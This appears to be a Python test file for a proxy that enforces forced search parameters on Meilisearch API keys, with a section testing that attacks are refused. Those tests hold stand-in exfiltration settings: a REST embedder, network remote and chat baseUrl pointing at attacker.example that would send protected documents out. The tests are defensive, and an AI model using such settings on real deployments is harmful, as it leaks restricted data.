"""Forced search parameters on a key (issue 23, item 1): a restrictions field
`forcedParameters`, index pattern -> search parameters. Its `filter` is AND-ed with the
caller's and a tenant token's, every other parameter replaces the caller's, on every route
that searches a covered index; routes that would bypass them are refused.

Black-box: the real `searchkeys.py serve` in front of the recording stand-in backend of
tests/test_searchkeys_restrictions.py.
"""
import base64
import hashlib
import hmac
import json
import subprocess
import sys
import time
import urllib.parse

import pytest

from support import SEARCHKEYS, scratch_dir
from test_searchkeys_restrictions import ADMIN, JSON, MASTER, new_key, serve
from test_searchkeys_restrictions import backend  # noqa: F401 (the stand-in's fixture)

FORCED = {"movies*": {"filter": "public = true", "attributesToRetrieve": ["title", "url"],
                      "facets": ["genre"], "showRankingScore": False}}
SHOWN = ["title", "url"]


@pytest.fixture(scope="module")
def guard(backend):
    with serve(backend) as daemon:
        yield daemon


@pytest.fixture(scope="module")
def key(guard):
    return new_key(guard, {"forcedParameters": FORCED},
                   actions=("search", "documents.get", "tasks.get", "export"))


def token(key, rules):
    def b64(data):
        return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
    signing = b64(b'{"alg":"HS256","typ":"JWT"}') + "." + b64(json.dumps(
        {"searchRules": rules, "apiKeyUid": key["uid"]}).encode())
    return signing + "." + b64(hmac.new(key["key"].encode(), signing.encode(),
                                        hashlib.sha256).digest())


def send(guard, backend, credential, method, target, body=None):
    """(status, answer, what the backend got: (method, target, body) or None)."""
    backend.seen.clear()
    raw = body if isinstance(body, (str, type(None))) else json.dumps(body)
    status, _, data = guard.request(method, target, raw,
                                    dict(JSON, Authorization="Bearer " + credential))
    return status, json.loads(data) if data else None, backend.seen[-1] if backend.seen else None


def query_of(target):
    return dict(urllib.parse.parse_qsl(target.partition("?")[2], keep_blank_values=True))


def test_search_post_fuses_the_filter_and_replaces_the_rest(guard, backend, key):
    status, _, (_, _, body) = send(guard, backend, key["key"], "POST", "/indexes/movies/search", {
        "q": "x", "filter": ["year > 2000", ["a = 1", "b = 2"]], "facets": ["secret"],
        "attributesToRetrieve": ["secret"], "showRankingScore": True,
        "attributesToHighlight": ["*"], "attributesToCrop": ["url:5", "secret"]})
    assert status == 200
    assert body == {"q": "x", "filter": ["year > 2000", ["a = 1", "b = 2"], "public = true"],
                    "facets": ["genre"], "attributesToRetrieve": SHOWN,
                    "showRankingScore": False, "attributesToHighlight": SHOWN,
                    "attributesToCrop": ["url:5"]}
    # an index no pattern covers is left alone
    sent = {"q": "x", "attributesToRetrieve": ["secret"]}
    assert send(guard, backend, key["key"], "POST", "/indexes/books/search", sent)[2][2] == sent


def test_duplicate_json_keys_are_read_as_meilisearch_reads_them(guard, backend, key):
    raw = ('{"q": "x", "filter": "a = 1", "filter": null, "attributesToRetrieve": ["title"], '
           '"attributesToRetrieve": ["secret"]}')
    status, _, (_, _, body) = send(guard, backend, key["key"], "POST",
                                   "/indexes/movies/search", raw)
    assert status == 200 and body["filter"] == "public = true"  # the last one, null, wins
    assert body["attributesToRetrieve"] == SHOWN


def test_search_get_rewrites_the_query_string(guard, backend, key):
    target = ("/indexes/movies-2024/search?q=x&attributesToRetrieve=secret&attributesTo%52etrieve"
              "=secret&filter=year%20%3E%202000&facets=secret&attributesToHighlight=*,secret")
    status, _, (method, sent, _) = send(guard, backend, key["key"], "GET", target)
    assert status == 200 and method == "GET"
    pairs = urllib.parse.parse_qsl(sent.partition("?")[2])
    assert [v for n, v in pairs if n == "attributesToRetrieve"] == ["title,url"]
    assert query_of(sent) == {"q": "x", "filter": '["year > 2000","public = true"]',
                              "facets": "genre", "attributesToRetrieve": "title,url",
                              "showRankingScore": "false", "attributesToHighlight": "title,url"}


@pytest.mark.parametrize("method", ["GET", "POST"])
def test_similar_gets_the_parameters_it_has(guard, backend, key, method):
    if method == "POST":
        answer = send(guard, backend, key["key"], "POST", "/indexes/movies/similar",
                      {"id": 1, "attributesToRetrieve": ["secret"]})
        forwarded = answer[2][2]
    else:
        answer = send(guard, backend, key["key"], "GET",
                      "/indexes/movies/similar?id=1&attributesToRetrieve=secret")
        forwarded = query_of(answer[2][1])
        forwarded["filter"] = json.loads(forwarded["filter"])
        forwarded["showRankingScore"] = json.loads(forwarded["showRankingScore"])
        forwarded["attributesToRetrieve"] = forwarded["attributesToRetrieve"].split(",")
    assert answer[0] == 200
    # no `facets` there: similar refuses unknown fields
    assert forwarded == {"id": forwarded["id"], "filter": "public = true",
                         "attributesToRetrieve": SHOWN, "showRankingScore": False}


def test_multi_search_forces_each_query(guard, backend, key):
    status, _, (_, _, body) = send(guard, backend, key["key"], "POST", "/multi-search", {
        "queries": [{"indexUid": "movies", "filter": "a = 1", "facets": ["secret"]},
                    {"indexUid": "books", "facets": ["secret"]}]})
    assert status == 200
    assert body["queries"] == [
        {"indexUid": "movies", "filter": ["a = 1", "public = true"], "facets": ["genre"],
         "attributesToRetrieve": SHOWN, "showRankingScore": False},
        {"indexUid": "books", "facets": ["secret"]}]


def test_federated_facets_go_through_facets_by_index(guard, backend, key):
    status, _, (_, _, body) = send(guard, backend, key["key"], "POST", "/multi-search", {
        "federation": {"facetsByIndex": {"movies": ["secret"], "books": ["author"]},
                       "mergeFacets": {}},
        "queries": [{"indexUid": "movies", "attributesToRetrieve": ["secret"]},
                    {"indexUid": "books"}]})
    assert status == 200
    assert body["federation"] == {"facetsByIndex": {"movies": ["genre"], "books": ["author"]},
                                  "mergeFacets": {}}
    # a federated query may not carry `facets`: Meilisearch would refuse it
    assert body["queries"][0] == {"indexUid": "movies", "attributesToRetrieve": SHOWN,
                                  "filter": "public = true", "showRankingScore": False}
    # a federation that asked for no facets gets the forced ones of the indexes it queries
    body = send(guard, backend, key["key"], "POST", "/multi-search", {
        "federation": {}, "queries": [{"indexUid": "movies-fr"}]})[2][2]
    assert body["federation"] == {"facetsByIndex": {"movies-fr": ["genre"]}}


def test_facet_search_gets_the_filter_and_only_forced_facets(guard, backend, key):
    status, _, (_, _, body) = send(guard, backend, key["key"], "POST",
                                   "/indexes/movies/facet-search",
                                   {"facetName": "genre", "facetQuery": "d", "filter": "a = 1"})
    assert status == 200
    assert body == {"facetName": "genre", "facetQuery": "d", "filter": ["a = 1", "public = true"]}
    status, error, seen = send(guard, backend, key["key"], "POST",
                               "/indexes/movies/facet-search", {"facetName": "secret"})
    assert status == 403 and seen is None
    assert error["code"] == "forbidden_by_restriction" and "forcedParameters" in error["message"]


@pytest.mark.parametrize("method, target", [
    ("GET", "/tasks/3/documents"),
    ("POST", "/export"),
])
def test_routes_that_would_bypass_them_are_refused(guard, backend, key, method, target):
    status, error, seen = send(guard, backend, key["key"], method, target,
                               "{}" if method == "POST" else None)
    assert status == 403 and seen is None
    assert error["code"] == "forbidden_by_restriction" and error["type"] == "auth"
    assert "forcedParameters" in error["message"] and "public" not in error["message"]


def test_documents_of_an_index_they_do_not_cover_stay_readable(guard, backend, key):
    status, _, seen = send(guard, backend, key["key"], "GET", "/indexes/books/documents")
    assert status == 200 and seen[1] == "/indexes/books/documents"


@pytest.mark.parametrize("rules, expected", [
    (["movies"], "public = true"),
    ({"movies*": {"filter": "lang = fr"}}, ["lang = fr", "public = true"]),
])
def test_tenant_tokens_inherit_them(guard, backend, key, rules, expected):
    credential = token(key, rules)
    status, _, (_, _, body) = send(guard, backend, credential, "POST", "/indexes/movies/search",
                                   {"attributesToRetrieve": ["secret"]})
    assert status == 200 and body["filter"] == expected
    assert body["attributesToRetrieve"] == SHOWN
    status, _, (_, target, _) = send(guard, backend, credential, "GET",
                                     "/indexes/movies/search?filter=a%3D1")
    wanted = ["a=1"] + (expected if isinstance(expected, list) else [expected])
    assert status == 200 and json.loads(query_of(target)["filter"]) == wanted
    status, _, (_, _, body) = send(guard, backend, credential, "POST",
                                   "/indexes/movies/documents/fetch", "{}")
    assert status == 200 and body["filter"] == expected and body["fields"] == SHOWN


def test_authorize_refuses_what_it_cannot_rewrite(guard, key):
    def authorize(method, uri):
        return guard.request("GET", "/authorize", None, {
            "Authorization": "Bearer " + key["key"], "X-Original-Method": method,
            "X-Original-URI": uri})[0]
    assert authorize("GET", "/indexes/movies/search?q=x") == 403
    assert authorize("GET", "/indexes/movies/documents") == 403
    assert authorize("POST", "/multi-search") == 403
    assert authorize("GET", "/indexes/books/search?q=x") == 204


def test_a_key_without_them_is_forwarded_as_sent(guard, backend):
    plain = new_key(guard, {"maxHitsPerQuery": 50}, actions=("search", "documents.get"))
    sent = {"q": "x", "limit": 5, "attributesToRetrieve": ["secret"], "facets": ["secret"]}
    assert send(guard, backend, plain["key"], "POST", "/indexes/movies/search",
                sent)[2][2] == sent
    assert send(guard, backend, plain["key"], "GET", "/indexes/movies/documents")[0] == 200


@pytest.mark.parametrize("forced, message", [
    ([], "Invalid value type at `.forcedParameters`: expected an object"),
    ({}, "Invalid value at `.forcedParameters`: give 1 to 100 index patterns"),
    ({"mov ies": {"filter": "a = 1"}}, "Invalid value at `.forcedParameters.mov ies`: "
     "`mov ies` is not an index pattern"),
    ({"movies": {}}, "Invalid value at `.forcedParameters.movies`: give at least one"),
    ({"movies": {"limit": 3}}, "Unknown field `limit` inside `.forcedParameters.movies`"),
    ({"movies": {"attributesToRetreive": []}}, "Unknown field `attributesToRetreive` inside "
     "`.forcedParameters.movies`: did you mean `attributesToRetrieve`?"),
    ({"movies": {"filter": 3}}, "Invalid value type at `.forcedParameters.movies.filter`: "
     "expected a string, an array of strings and arrays of strings, or null"),
    ({"movies": {"filter": [["a = 1", ["b = 2"]]]}}, "Invalid value type at "
     "`.forcedParameters.movies.filter`"),
    ({"movies": {"attributesToRetrieve": "title"}}, "Invalid value type at "
     "`.forcedParameters.movies.attributesToRetrieve`: expected an array of strings"),
    ({"movies": {"showRankingScore": "yes"}}, "Invalid value type at "
     "`.forcedParameters.movies.showRankingScore`: expected a boolean"),
    ({"movies": {"rankingScoreThreshold": 2}}, "Invalid value type at "
     "`.forcedParameters.movies.rankingScoreThreshold`: expected a number from 0.0 to 1.0"),
    ({"movies": {"filter": "x" * 17000}}, "Invalid value at `.forcedParameters`: give at most "
     "16384 bytes"),
    # A forced filter that holds no condition would restrict nothing (issue 30).
    ({"movies": {"filter": ""}}, 'Invalid value at `.forcedParameters.movies.filter`: `""` '
     "holds no condition, so it would restrict nothing"),
    ({"movies": {"filter": []}}, "Invalid value at `.forcedParameters.movies.filter`: `[]` "
     "holds no condition"),
    ({"movies": {"filter": ["  ", [], [""]]}}, "Invalid value at "
     "`.forcedParameters.movies.filter`: "),
    ({"movies": {"filter": None, "attributesToRetrieve": ["a"]}}, "Invalid value at "
     "`.forcedParameters.movies.filter`: `null` holds no condition"),
])
def test_validation_errors(guard, forced, message):
    plain = new_key(guard, {"forcedParameters": {"books": {"filter": "ok = true"}}})
    path = "/keys/%s/restrictions" % plain["uid"]
    status, _, data = guard.request("PUT", path, json.dumps({"forcedParameters": forced}), ADMIN)
    error = json.loads(data)
    assert status == 400 and error["code"] == "invalid_restrictions_forced_parameters"
    assert error["message"].startswith(message) and error["type"] == "invalid_request"
    assert error["link"].endswith("invalid_restrictions_forced_parameters")
    shown = json.loads(guard.request("GET", path, None, ADMIN)[2])
    assert shown["forcedParameters"] == {"books": {"filter": "ok = true"}}


def test_they_persist_and_the_cli_sets_them(backend):
    with scratch_dir("forced-") as folder:
        store = str(folder / "keys.json")
        with serve(backend, "--store", store) as daemon:
            plain = new_key(daemon, None)
            base = [sys.executable, str(SEARCHKEYS), "keys", "restrict", plain["uid"],
                    "--url", "http://127.0.0.1:%d" % daemon.port, "--key", MASTER]
            done = subprocess.run(base + ["--filter", "movies*=public = true", "--fields",
                                          "title,url", "--force", 'movies*={"facets": []}'],
                                  capture_output=True, text=True, timeout=30)
            assert done.returncode == 0, done.stderr
            assert json.loads(done.stdout)["forcedParameters"] == {"movies*": {
                "facets": [], "filter": "public = true", "attributesToRetrieve": SHOWN}}
            for bad, words in ((["--fields", "a,b"], "name the indexes"),
                               (["--filter", "public = true"], "write INDEX=VALUE"),
                               (["--force", "movies={"], "not JSON"),
                               (["--force", 'movies={"limit": 1}'], "Unknown field `limit`")):
                refused = subprocess.run(base + bad, capture_output=True, text=True, timeout=30)
                assert refused.returncode == 2 and words in refused.stderr, refused.stderr
                assert "Traceback" not in refused.stderr
        with serve(backend, "--store", store) as daemon:
            status, _, (_, _, body) = send(daemon, backend, plain["key"], "POST",
                                           "/indexes/movies/search", {"q": "x"})
            assert status == 200 and body == {"q": "x", "filter": "public = true",
                                              "attributesToRetrieve": SHOWN, "facets": []}


def test_the_cli_refuses_a_filter_that_would_restrict_nothing_or_the_wrong_index(guard):
    """`--filter 'status=published'` reads as index `status`, filter `published`: the index
    meant would get no filter, silently. An empty filter restricts nothing. Both are refused
    before any request, and the key keeps what it had (issue 30)."""
    plain = new_key(guard, {"forcedParameters": {"books": {"filter": "ok = true"}}})
    base = [sys.executable, str(SEARCHKEYS), "keys", "restrict", plain["uid"],
            "--url", "http://127.0.0.1:%d" % guard.port, "--key", MASTER]
    for bad, words in ((["--filter", "status=published"],
                        "`published` is not a filter (it has no operator"),
                       (["--filter", "books="], "`\"\"` holds no condition"),
                       (["--force", 'books={"filter": []}'], "`[]` holds no condition")):
        refused = subprocess.run(base + bad, capture_output=True, text=True, timeout=30)
        assert refused.returncode == 2 and words in refused.stderr, refused.stderr
        assert "Traceback" not in refused.stderr
    shown = json.loads(guard.request("GET", "/keys/%s/restrictions" % plain["uid"], None,
                                     ADMIN)[2])
    assert shown["forcedParameters"] == {"books": {"filter": "ok = true"}}
    # An index the key never reaches gets the filter in vain: refused, before any change.
    scoped = new_key(guard, None, indexes=("books", "movies*"))
    scoped_base = base[:4] + [scoped["uid"]] + base[5:]
    refused = subprocess.run(scoped_base + ["--filter", "status=kind = post"],
                             capture_output=True, text=True, timeout=30)
    assert refused.returncode == 1, refused
    assert "the key's indexes (books, movies*) never reach `status`" in refused.stderr
    assert json.loads(guard.request("GET", "/keys/%s/restrictions" % scoped["uid"], None,
                                    ADMIN)[2])["forcedParameters"] is None
    done = subprocess.run(scoped_base + ["--filter", "movies_fr=a = 1", "--filter", "m*=b = 2"],
                          capture_output=True, text=True, timeout=30)
    assert done.returncode == 0, done.stderr
    good = ("books=status = published", "books=genre IN [a, b]", "books=tag EXISTS", "books*=a=1")
    done = subprocess.run(base + [arg for text in good for arg in ("--filter", text)],
                          capture_output=True, text=True, timeout=30)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["forcedParameters"] == {
        "books": {"filter": ["status = published", "genre IN [a, b]", "tag EXISTS"]},
        "books*": {"filter": "a=1"}}


def test_the_cli_refuses_a_filter_missing_its_index_on_a_key_for_every_index(guard):
    """On a key for `*` every pattern is reached, so `--filter 'status=published AND price > 1'`
    (the index left out) passed as a filter `published AND price > 1` on index `status` alone:
    the key's searches anywhere else were restricted by nothing. Each condition between AND and
    OR needs an operator, as `published` has none; quoted text and words merely containing AND
    or OR are not split on."""
    plain = new_key(guard, None)  # indexes: *
    base = [sys.executable, str(SEARCHKEYS), "keys", "restrict", plain["uid"],
            "--url", "http://127.0.0.1:%d" % guard.port, "--key", MASTER]
    for text, part in (("status=published AND price > 1", "published"),
                       ("genre=comedy OR year > 2000", "comedy"),
                       ("books=a = 1 AND (b = 2 OR draft)", "draft)")):
        refused = subprocess.run(base + ["--filter", text], capture_output=True, text=True,
                                 timeout=30)
        assert refused.returncode == 2, refused
        assert "`%s` has no operator" % part in refused.stderr, refused.stderr
    assert json.loads(guard.request("GET", "/keys/%s/restrictions" % plain["uid"], None,
                                    ADMIN)[2])["forcedParameters"] is None
    good = ('books=title = "Rock AND Roll" OR tag IN [a, b]', "books=(a = 1 OR b EXISTS) AND "
            "NOT c IS NULL", "books=brand = ANDROID OR x STARTS WITH y", "books=a = 'x OR y'")
    done = subprocess.run(base + [arg for text in good for arg in ("--filter", text)],
                          capture_output=True, text=True, timeout=30)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["forcedParameters"] == {
        "books": {"filter": [text.split("=", 1)[1] for text in good]}}


def test_the_official_client_searches_within_them(guard, backend, key):
    meilisearch = pytest.importorskip("meilisearch")
    client = meilisearch.Client("http://127.0.0.1:%d" % guard.port, key["key"], timeout=10)
    backend.seen.clear()
    client.index("movies").search("x", {"attributesToRetrieve": ["secret"]})
    client.multi_search([{"indexUid": "movies", "q": "y", "filter": "a = 1"}])
    assert backend.seen[0][2]["attributesToRetrieve"] == SHOWN
    assert backend.seen[1][2]["queries"][0]["filter"] == ["a = 1", "public = true"]


def test_a_get_search_that_cannot_spell_them_is_refused(guard, backend):
    commas = new_key(guard, {"forcedParameters": {"movies": {"attributesToRetrieve": ["a,b"]}}})
    status, error, seen = send(guard, backend, commas["key"], "GET", "/indexes/movies/search?q=x")
    assert status == 403 and seen is None and "use POST" in error["message"]
    status, _, (_, _, body) = send(guard, backend, commas["key"], "POST",
                                   "/indexes/movies/search", {"q": "x"})
    assert status == 200 and body["attributesToRetrieve"] == ["a,b"]


def test_a_tenant_tokens_filter_cannot_multiply_a_multi_search_past_the_body_limit(guard,
                                                                                 backend):
    plain = new_key(guard, None)  # no forced parameters: the token's own filter does it
    big = token(plain, {"movies": {"filter": "x = '%s'" % ("y" * 16000)}})
    queries = {"queries": [{"indexUid": "movies"}] * 1100}  # 1100 x 16 KB > 16 MiB
    status, error, seen = send(guard, backend, big, "POST", "/multi-search", queries)
    assert status == 413 and error["code"] == "payload_too_large" and seen is None
    queries = {"queries": [{"indexUid": "movies"}] * 100}
    status, _, (_, _, body) = send(guard, backend, big, "POST", "/multi-search", queries)
    assert status == 200 and len(body["queries"]) == 100
    assert body["queries"][99]["filter"] == "x = '%s'" % ("y" * 16000)


def test_a_multi_search_cannot_multiply_them_past_the_body_limit(guard, backend):
    big = new_key(guard, {"forcedParameters": {"movies": {"filter": "x = '%s'" % ("y" * 16000)}}})
    queries = {"queries": [{"indexUid": "movies"}] * 1100}  # 1100 x 16 KB > 16 MiB
    status, error, seen = send(guard, backend, big["key"], "POST", "/multi-search", queries)
    assert status == 413 and error["code"] == "payload_too_large" and seen is None
    queries = {"queries": [{"indexUid": "movies"}] * 100}
    assert send(guard, backend, big["key"], "POST", "/multi-search", queries)[0] == 200


# ---------------------------------------------------------------------------------------------
# Attacks: a key with forced parameters and more than search rights
# ---------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def mover(guard):
    """A careless admin's key: forced parameters, and the rights to swap and rename indexes."""
    return new_key(guard, {"forcedParameters": FORCED},
                   actions=("search", "indexes.swap", "indexes.update"))


@pytest.mark.parametrize("method, target, body", [
    ("POST", "/swap-indexes", [{"indexes": ["movies", "open"]}]),
    ("POST", "/swap-indexes", [{"indexes": ["books", "x"]}, {"indexes": ["open", "movies-fr"],
                                                             "rename": True}]),
    ("PATCH", "/indexes/movies", {"uid": "open"}),
    ("PATCH", "/indexes/open", {"uid": "movies-fr", "primaryKey": None}),
])
def test_covered_documents_cannot_be_moved_to_a_name_without_them(guard, backend, mover,
                                                                  method, target, body):
    # else the next search of `open` would return every document, every field
    status, error, seen = send(guard, backend, mover["key"], method, target, body)
    assert status == 403 and seen is None
    assert error["code"] == "forbidden_by_restriction" and "forcedParameters" in error["message"]


@pytest.mark.parametrize("method, target, body", [
    ("POST", "/swap-indexes", [{"indexes": ["movies", "movies-old"]}, {"indexes": ["a", "b"]}]),
    ("PATCH", "/indexes/movies", {"uid": "movies-2025"}),
    ("PATCH", "/indexes/movies", {"uid": None, "primaryKey": "id"}),
    ("PATCH", "/indexes/open", {"uid": "other"}),
])
def test_moves_between_names_with_the_same_forced_parameters_go_through(guard, backend, mover,
                                                                        method, target, body):
    status, _, seen = send(guard, backend, mover["key"], method, target, body)
    assert status == 200 and seen == (method, target, body)


def test_authorize_refuses_a_swap_it_cannot_read(guard, mover):
    status = guard.request("GET", "/authorize", None, {
        "Authorization": "Bearer " + mover["key"], "X-Original-Method": "POST",
        "X-Original-URI": "/swap-indexes"})[0]
    assert status == 403


def test_ranking_details_of_a_sort_on_hidden_attributes_are_turned_off(guard, backend, key):
    # the details of a sort show each hit's value of the sorted attribute
    body = {"q": "x", "sort": ["secret:asc"], "showRankingScoreDetails": True}
    sent = send(guard, backend, key["key"], "POST", "/indexes/movies/search", body)[2][2]
    assert sent["showRankingScoreDetails"] is False and sent["sort"] == ["secret:asc"]
    sent = send(guard, backend, key["key"], "POST", "/multi-search", {"queries": [dict(
        body, indexUid="movies", sort=["title:asc", "_geoPoint(1,2):asc"])]})[2][2]
    assert sent["queries"][0]["showRankingScoreDetails"] is False
    target = send(guard, backend, key["key"], "GET", "/indexes/movies/search?sort=url%3Aasc"
                  "%2Csecret%3Adesc&showRankingScoreDetails=true")[2][1]
    assert query_of(target)["showRankingScoreDetails"] == "false"
    # a sort on shown attributes too: the details also show the index's custom ranking rules
    body = dict(body, sort=["title:asc", "url:desc"])
    sent = send(guard, backend, key["key"], "POST", "/indexes/movies/search", body)[2][2]
    assert sent["showRankingScoreDetails"] is False
    target = send(guard, backend, key["key"], "GET",
                  "/indexes/movies/search?sort=title:asc&showRankingScoreDetails=true")[2][1]
    assert query_of(target)["showRankingScoreDetails"] == "false"


def test_ranking_details_without_a_sort_are_turned_off(guard, backend, key):
    """Without a sort, the details still show each hit's value of the attributes of the
    index's custom ranking rules (`price:desc`), hidden ones included (S2)."""
    body = {"q": "x", "showRankingScoreDetails": True}
    for route in ("search", "similar"):
        sent = send(guard, backend, key["key"], "POST", "/indexes/movies/" + route,
                    dict(body, id=1) if route == "similar" else body)[2][2]
        assert sent["showRankingScoreDetails"] is False, route
    target = send(guard, backend, key["key"], "GET",
                  "/indexes/movies/search?q=x&showRankingScoreDetails=true")[2][1]
    assert query_of(target)["showRankingScoreDetails"] == "false"
    sent = send(guard, backend, key["key"], "POST", "/multi-search", {
        "queries": [dict(body, indexUid="movies")]})[2][2]
    assert sent["queries"][0]["showRankingScoreDetails"] is False
    # an index without forced parameters keeps them
    sent = send(guard, backend, key["key"], "POST", "/indexes/books/search", body)[2][2]
    assert sent["showRankingScoreDetails"] is True


def test_vectors_are_turned_off_under_forced_attributes(guard, backend, key):
    """Meilisearch adds `_vectors` (each embedder's embeddings, made from any of the
    document's fields, and the vectors the document came with) to every hit asked with
    `retrieveVectors: true`, whatever `attributesToRetrieve` says: under a forced list
    without `_vectors` they are turned off, as on the documents routes."""
    body = {"q": "x", "retrieveVectors": True}
    for route in ("search", "similar"):
        sent = send(guard, backend, key["key"], "POST", "/indexes/movies/" + route,
                    dict(body, id=1) if route == "similar" else body)[2][2]
        assert sent["retrieveVectors"] is False, route
    for target in ("/indexes/movies/search?q=x&retrieveVectors=true",
                   "/indexes/movies/similar?id=1&retrieveVectors=true"):
        sent = send(guard, backend, key["key"], "GET", target)[2][1]
        assert query_of(sent)["retrieveVectors"] == "false", target
    for federation in ({}, {"federation": {}}):
        sent = send(guard, backend, key["key"], "POST", "/multi-search", dict(
            federation, queries=[dict(body, indexUid="movies")]))[2][2]
        assert sent["queries"][0]["retrieveVectors"] is False, federation
    # an index without forced parameters keeps them; so does a forced list showing them
    sent = send(guard, backend, key["key"], "POST", "/indexes/books/search", body)[2][2]
    assert sent["retrieveVectors"] is True
    shows = new_key(guard, {"forcedParameters": {"movies": {
        "attributesToRetrieve": ["title", "_vectors"]}}})
    sent = send(guard, backend, shows["key"], "POST", "/indexes/movies/search", body)[2][2]
    assert sent["retrieveVectors"] is True


def test_embedders_of_a_covered_index_cannot_be_changed(guard, backend):
    # a REST embedder's documentTemplate would send every document, whole, to its URL
    key = new_key(guard, {"forcedParameters": FORCED}, actions=("search", "settings.update"))
    embedders = {"leak": {"source": "rest", "url": "http://attacker.example/",
                          "documentTemplate": "{{doc.secret}}", "request": {}, "response": {}}}
    for target, body in (("/indexes/movies/settings", {"embedders": embedders}),
                         ("/indexes/movies-fr/settings/embedders", embedders)):
        status, error, seen = send(guard, backend, key["key"], "PATCH", target, body)
        assert status == 403 and error["code"] == "forbidden_by_restriction", target
        assert seen is None, seen  # refused before the index's existence is asked
    kept = {"embedders": None, "distinctAttribute": "id"}
    for target, body in (("/indexes/movies/settings", kept),
                         ("/indexes/books/settings/embedders", embedders)):
        status, _, seen = send(guard, backend, key["key"], "PATCH", target, body)
        assert status == 200 and seen == ("PATCH", target, body)


def test_the_refusal_comes_before_the_index_existence_check_in_both_edges(guard, backend):
    # a key that may not create indexes: a settings write on a missing index must find it
    # first; the embedders refusal (forced parameters) needs no backend and comes first, in
    # forwarding as in GET /authorize
    key = new_key(guard, {"forcedParameters": FORCED}, actions=("settings.update",))
    backend.missing.add("movies-gone")
    try:
        target = "/indexes/movies-gone/settings/embedders"
        status, error, seen = send(guard, backend, key["key"], "PATCH", target, {})
        assert (status, error["code"], seen) == (403, "forbidden_by_restriction", None), error
        status, _, data = guard.request("GET", "/authorize", None, {
            "Authorization": "Bearer " + key["key"], "X-Original-Method": "PATCH",
            "X-Original-URI": target})
        assert (status, json.loads(data)["code"]) == (403, "forbidden_by_restriction"), data
        assert backend.seen == []
        # without the refusal, both edges answer the missing index
        target = "/indexes/movies-gone/settings/synonyms"
        status, error, seen = send(guard, backend, key["key"], "PUT", target, {})
        assert (status, error["code"]) == (404, "index_not_found"), error
        assert seen == ("GET", "/indexes/movies-gone", None)
        status, _, data = guard.request("GET", "/authorize", None, {
            "Authorization": "Bearer " + key["key"], "X-Original-Method": "PUT",
            "X-Original-URI": target})
        assert (status, json.loads(data)["code"]) == (403, "index_not_found"), data
    finally:
        backend.missing.discard("movies-gone")


def test_the_network_is_refused(guard, backend):
    # a topology change moves documents to the remotes it names, as an export sends them; the
    # network's description holds the remotes' own search and write keys, in the clear
    rights = ("network.get", "network.update")
    key = new_key(guard, {"forcedParameters": FORCED}, actions=("search",) + rights)
    plain = new_key(guard, None, actions=rights)
    change = {"remotes": {"out": {"url": "http://attacker.example"}}, "self": "here"}
    for method, target in (("PATCH", "/network"), ("POST", "/network/control"),
                           ("GET", "/network")):
        change = None if method == "GET" else change
        status, error, seen = send(guard, backend, key["key"], method, target, change)
        assert status == 403 and seen is None and "forcedParameters" in error["message"]
        assert send(guard, backend, plain["key"], method, target, change)[0] == 200


def test_the_chat_backend_cannot_be_changed(guard, backend):
    # a workspace's baseUrl gets the documents its chats search, covered indexes' included
    key = new_key(guard, {"forcedParameters": FORCED}, actions=("search", "chatsSettings.update"))
    settings = {"source": "openAi", "baseUrl": "http://attacker.example/v1"}
    status, error, seen = send(guard, backend, key["key"], "PATCH", "/chats/site/settings",
                               settings)
    assert status == 403 and seen is None and "forcedParameters" in error["message"]
    plain = new_key(guard, None, actions=("chatsSettings.update",))
    assert send(guard, backend, plain["key"], "PATCH", "/chats/site/settings", settings)[0] == 200


def test_the_log_stream_is_refused(guard, backend):
    # at debug level it streams every search's hits and every document fetched, anyone's
    key = new_key(guard, {"forcedParameters": FORCED}, actions=("search", "metrics.get"))
    stream = {"target": "meilisearch=debug", "mode": "human"}
    status, error, seen = send(guard, backend, key["key"], "POST", "/logs/stream", stream)
    assert status == 403 and seen is None and "forcedParameters" in error["message"]
    plain = new_key(guard, None, actions=("metrics.get",))
    assert send(guard, backend, plain["key"], "POST", "/logs/stream", stream)[0] == 200


@pytest.fixture
def own_guard(backend):
    """A guard of its own, for a test that changes the backend's joins: another guard may have
    just looked at the same indexes' foreignKeys, and reuses them for a moment."""
    with serve(backend) as daemon:
        yield daemon


def test_searches_of_an_index_joining_documents_outside_the_key_are_refused(own_guard, backend):
    """S3: with Meilisearch's experimental foreignKeys, each hit carries the whole document of
    the joined index (and `_foreign(...)` filters on it), outside that index's forced
    parameters and outside an index-scoped key's indexes."""
    guard = own_guard
    backend.joins["movies"] = [{"foreignIndexUid": "owners", "fieldName": "owner"}]
    try:
        scoped = new_key(guard, None, indexes=("movies",))
        forced = new_key(guard, {"forcedParameters": {
            "movies": {"filter": "public = true"}, "owners": {"attributesToRetrieve": ["name"]}}})
        both = new_key(guard, None, indexes=("movies", "owners"))
        for credential in (scoped["key"], forced["key"], token(both, {"movies": None}),
                           token(both, {"*": {"filter": "tenant = 1"}})):
            for method, target, body in (
                    ("POST", "/indexes/movies/search", {"q": "x"}),
                    ("GET", "/indexes/movies/search?q=x", None),
                    ("POST", "/indexes/movies/similar", {"id": 1}),
                    ("POST", "/multi-search", {"queries": [{"indexUid": "movies"}]}),
                    ("POST", "/multi-search", {"federation": {}, "queries": [
                        {"indexUid": "movies", "filter": "_foreign(owner, secret = 1)"}]})):
                status, answer, sent = send(guard, backend, credential, method, target, body)
                assert status == 403 and answer["code"] == "invalid_api_key", (target, answer)
                assert "foreignKeys" in answer["message"] and sent is None
        # /authorize (with --upstream) looks too
        status = guard.request("GET", "/authorize", None, {
            "Authorization": "Bearer " + scoped["key"], "X-Original-Method": "GET",
            "X-Original-URI": "/indexes/movies/search?q=x"})[0]
        assert status == 403
        # joined documents the key may see whole: searched as usual
        assert send(guard, backend, both["key"], "POST", "/indexes/movies/search",
                    {"q": "x"})[0] == 200
        assert send(guard, backend, token(both, {"movies": {"filter": "a = 1"}, "owners": None}),
                    "POST", "/indexes/movies/search", {"q": "x"})[0] == 200
        # an index without joins
        assert send(guard, backend, scoped["key"], "POST", "/indexes/movies2/search",
                    {"q": "x"})[0] == 403  # not covered: the index check, not the joins
        assert send(guard, backend, forced["key"], "POST", "/indexes/books/search",
                    {"q": "x"})[0] == 200
        # one lookup an index: a multi-search may not make hundreds of them
        backend.lookups.clear()
        many = {"queries": [{"indexUid": "i%d" % n} for n in range(21)]}
        status, answer, sent = send(guard, backend, forced["key"], "POST", "/multi-search", many)
        assert status == 403 and "at most 20 indexes" in answer["message"] and sent is None
        assert backend.lookups == []
        many["queries"].pop()
